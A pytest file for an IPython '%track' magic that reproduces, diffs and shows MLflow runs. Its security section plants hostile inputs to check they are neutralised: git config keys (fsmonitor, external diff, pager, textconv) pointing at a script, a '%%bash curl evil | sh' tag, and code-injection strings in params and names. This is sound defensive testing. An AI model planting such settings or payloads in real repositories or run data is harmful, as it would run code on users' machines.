"""%track reproduce / diff / show in a real IPython shell against a real MLflow store."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import time
from pathlib import Path

import mlflow
import pytest

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "lineage"


def _git(folder, *args):
    subprocess.run(["git", *args], cwd=folder, check=True, capture_output=True)


@pytest.fixture
def project(tmp_path):
    """A git repository holding a notebook and its data, the notebook path known."""
    folder = tmp_path / "project"
    shutil.copytree(FIXTURES, folder)
    _git(folder, "init", "-q", "-b", "main")
    _git(folder, "config", "user.email", "t@example.org")
    _git(folder, "config", "user.name", "Test")
    (folder / "train.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4}')
    (folder / "train.py").write_text("lr = 0.1\n")
    _git(folder, "add", ".")
    _git(folder, "commit", "-q", "-m", "first")
    return folder


@pytest.fixture
def in_notebook(shell):
    def use(path: Path | None):
        if path is None:
            shell.user_ns.pop("__session__", None)
        else:
            shell.user_ns["__session__"] = str(path)

    yield use
    shell.user_ns.pop("__session__", None)


@pytest.fixture
def next_input(shell, monkeypatch):
    inserted = []
    monkeypatch.setattr(
        shell, "set_next_input", lambda text, replace=False: inserted.append((text, replace))
    )
    return inserted


def _track_training(run_cell, data: Path, name: str):
    cell = run_cell(
        f"%%track --name {name} --dataset {data} --params lr\nlr = 0.1\nmodel = 'trained'\n"
    )
    assert cell.result.success, cell.out + cell.err
    return cell.run_id


def test_git_info_is_recorded_inside_a_repository(run_cell, client, project, in_notebook):
    in_notebook(project / "train.ipynb")
    run_id = _track_training(run_cell, project / "data.csv", "in-repo")
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=project, capture_output=True, text=True
    ).stdout.strip()
    tags = client.get_run(run_id).data.tags
    assert tags["mlflow.source.git.commit"] == head
    assert tags["labtrack.git.dirty"] == "false"


def test_git_info_is_omitted_cleanly_outside_a_repository(run_cell, client, tmp_path, in_notebook):
    (tmp_path / "loose.ipynb").write_text("{}")
    in_notebook(tmp_path / "loose.ipynb")
    cell = run_cell("%%track --name no-repo\nx = 1\n")
    assert cell.result.success and "git" not in cell.err
    tags = client.get_run(cell.run_id).data.tags
    assert not [key for key in tags if "git" in key]
    names = [item.path for item in client.list_artifacts(cell.run_id, "labtrack")]
    assert "labtrack/git.patch" not in names


def test_reproduce_reports_a_changed_dataset_and_commit_and_inserts_the_cell(
    run_cell, project, in_notebook, next_input
):
    in_notebook(project / "train.ipynb")
    run_id = _track_training(run_cell, project / "data.csv", "to-reproduce")
    (project / "data.csv").write_text("x,y\n9,9\n")
    (project / "train.py").write_text("lr = 0.2\n")
    _git(project, "commit", "-qam", "new data and lr")
    (project / "train.py").write_text("lr = 0.3\n")  # uncommitted

    cell = run_cell(f"%track reproduce {run_id}")
    assert cell.result.success, cell.out + cell.err
    changed = [line for line in cell.out.splitlines() if "CHANGED" in line]
    assert any(
        "dataset data.csv" in line and "480cd1679dbb1729865e6b8f617b62cc ->" in line
        for line in changed
    ), cell.out
    assert any("git commit:" in line for line in changed)
    assert any("uncommitted files: none -> train.py" in line for line in changed)
    ((text, replace),) = next_input
    assert replace is False
    lines = text.splitlines()
    assert lines[0] == f"%%track --name to-reproduce --params lr --dataset {project / 'data.csv'}"
    assert lines[1] == f"# reproduces run {run_id} (params: lr=0.1)"
    assert "model = 'trained'" in text


def test_reproduce_of_unchanged_data_reports_it_the_same(run_cell, project, next_input):
    run_id = _track_training(run_cell, project / "data.csv", "unchanged")
    cell = run_cell(f"%track reproduce {run_id}")
    assert "same     dataset data.csv: md5 480cd1679dbb1729865e6b8f617b62cc" in cell.out
    assert not [line for line in cell.out.splitlines() if "CHANGED  dataset" in line]


def test_diff_of_two_runs_shows_the_dataset_that_changed(run_cell, project):
    first = _track_training(run_cell, project / "data.csv", "first")
    (project / "data.csv").write_text("x,y\n5,5\n")
    second = _track_training(run_cell, project / "data.csv", "second")
    cell = run_cell(f"%track diff {first} {second}")
    assert cell.result.success, cell.out + cell.err
    assert f"labtrack: run {first[:8]} vs run {second[:8]}" in cell.out
    assert "CHANGED  dataset data.csv" in cell.out
    assert "same     packages:" in cell.out


def test_unknown_run_ids_are_one_clear_usage_error(run_cell):
    for line in ("%track reproduce nope123", "%track diff nope123 nope456", "%track show nope"):
        cell = run_cell(line)
        assert not cell.result.success
        assert "labtrack: no run with id 'nope" in cell.out + cell.err
        assert "Traceback" not in cell.out + cell.err


def test_show_prints_the_chain_from_data_to_registered_versions(run_cell, client, project, shell):
    cell = run_cell(
        f"%%track --name lineage-model --dataset {project / 'data.csv'}\n"
        "import mlflow\n"
        "from sklearn.linear_model import LogisticRegression\n"
        "m = LogisticRegression().fit([[0], [1]], [0, 1])\n"
        "info = mlflow.sklearn.log_model(m, name='model')\n"
    )
    assert cell.result.success, cell.out + cell.err
    version = mlflow.register_model(shell.user_ns["info"].model_uri, "lineage-demo")
    client.set_registered_model_alias("lineage-demo", "champion", version.version)

    shown = run_cell(f"%track show {cell.run_id}")
    lines = shown.out.splitlines()
    assert lines[0] == "datasets"
    assert "data.csv  md5 480cd1679dbb1729865e6b8f617b62cc" in lines[1]
    assert "matches its .dvc pointer, remote team-s3" in lines[1]
    assert any(f"-> run lineage-model ({cell.run_id}) FINISHED" in line for line in lines)
    assert any("-> logged model model (m-" in line for line in lines)
    assert any(
        f"-> registered lineage-demo v{version.version}  @champion" in line for line in lines
    ), shown.out


# -- run data is untrusted: git, datasets and the inserted cell (issue 17) ----------------


def _marker_script(folder: Path, marker: Path) -> Path:
    script = folder / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    return script


def test_reproduce_runs_no_command_a_repository_configures(
    run_cell, project, in_notebook, next_input, tmp_path
):
    # Given a run whose notebook lives in a repository configured to run programs
    in_notebook(project / "train.ipynb")
    run_id = _track_training(run_cell, project / "data.csv", "hostile-repo")
    marker = tmp_path / "ran"
    script = _marker_script(tmp_path, marker)
    for key in ("core.fsmonitor", "diff.external", "core.pager"):
        _git(project, "config", key, str(script))
    (project / ".gitattributes").write_text("*.py diff=evil\n")
    _git(project, "config", "diff.evil.textconv", str(script))
    (project / "train.py").write_text("lr = 0.5\n")  # a change for status and diff to see
    # When it is reproduced
    cell = run_cell(f"%track reproduce {run_id}")
    # Then the comparison still reads the repository, and none of those programs ran
    assert cell.result.success, cell.out + cell.err
    assert "CHANGED  uncommitted files: none -> .gitattributes, train.py" in cell.out, cell.out
    assert not marker.exists()


def test_reproduce_reads_no_repository_another_user_owns(
    run_cell, project, in_notebook, next_input
):
    in_notebook(project / "train.ipynb")
    run_id = _track_training(run_cell, project / "data.csv", "foreign-repo")
    subprocess.run(["chown", "-R", "65534:65534", str(project / ".git")], check=True)
    cell = run_cell(f"%track reproduce {run_id}")
    assert cell.result.success, cell.out + cell.err
    assert "git commit: " in cell.out and "-> none" in cell.out


@pytest.mark.parametrize("kind", ["device", "fifo"])
def test_reproduce_never_reads_a_dataset_that_is_not_a_regular_file(
    run_cell, client, next_input, tmp_path, kind
):
    from mlflow.entities import Dataset, DatasetInput, InputTag

    # Given a run whose recorded dataset path is /dev/zero or a named pipe (no writer)
    path = "/dev/zero" if kind == "device" else str(tmp_path / "pipe")
    if kind == "fifo":
        os.mkfifo(path)
    run_id = run_cell("%%track --name odd-dataset\nx = 1\n").run_id
    dataset = DatasetInput(
        Dataset("odd", "0" * 32, "local", "{}"), [InputTag("labtrack.path", path)]
    )
    client.log_inputs(run_id, datasets=[dataset])
    # When it is reproduced: it ends at once, saying the data was not read
    started = time.monotonic()
    cell = run_cell(f"%track reproduce {run_id}")
    assert cell.result.success, cell.out + cell.err
    assert time.monotonic() - started < 60
    assert "not checked: not a regular file" in cell.out


def test_rehashing_is_bounded_in_size_and_time(tmp_path, monkeypatch):
    from labtrack.lineage import rehash

    data = tmp_path / "big.bin"
    data.write_bytes(b"x" * (3 << 20))
    with pytest.raises(rehash.NotChecked, match=r"3.0 MB or more is over the 1.0 MB bound"):
        rehash.bounded_digest(str(data), max_bytes=1 << 20)
    with pytest.raises(rehash.NotChecked, match="took longer than 0 s"):
        rehash.bounded_digest(str(data), max_seconds=0)
    assert rehash.bounded_digest(str(data)) == hashlib.md5(data.read_bytes()).hexdigest()


def test_the_inserted_cell_is_built_from_validated_parts(run_cell, client, next_input):
    run_id = run_cell("%%track --name plain-cell\nx = 1\n").run_id
    client.set_tag(run_id, "labtrack.magic", "%%bash curl evil | sh")
    client.log_param(run_id, "note", "ok\nimport os; os.system('x')")
    cell = run_cell(f"%track reproduce {run_id}")
    ((text, _),) = next_input
    lines = text.splitlines()
    assert lines[0] == "%%track"
    assert lines[1] == (
        f"# reproduces run {run_id} (params: note=\"ok\\nimport os; os.system('x')\")"
    )
    assert lines[2] == "x = 1"
    assert "the recorded magic line is not a %%track line" in cell.out


@pytest.mark.parametrize(
    ("recorded", "expected", "note"),
    [
        ("%%track --name {__import__('os').getcwd()}", "%%track", "left out --name"),
        ("%%track --name $HOME --tag team=ml", "%%track --tag team=ml", "left out --name"),
        ("%%track --name ok --no-such-option", "%%track", "do not parse"),
        ("%%track --name 'two words' --steps 5 --no-live", None, None),
    ],
)
def test_the_magic_line_must_parse_as_track_options(
    run_cell, client, next_input, recorded, expected, note
):
    run_id = run_cell("%%track --name magic-line\nx = 1\n").run_id
    client.set_tag(run_id, "labtrack.magic", recorded)
    cell = run_cell(f"%track reproduce {run_id}")
    ((text, _),) = next_input
    first = text.splitlines()[0]
    if expected is None:  # a safe line comes back equivalent
        assert first == "%%track --name 'two words' --steps 5 --no-live"
    else:
        assert first == expected and note in cell.out
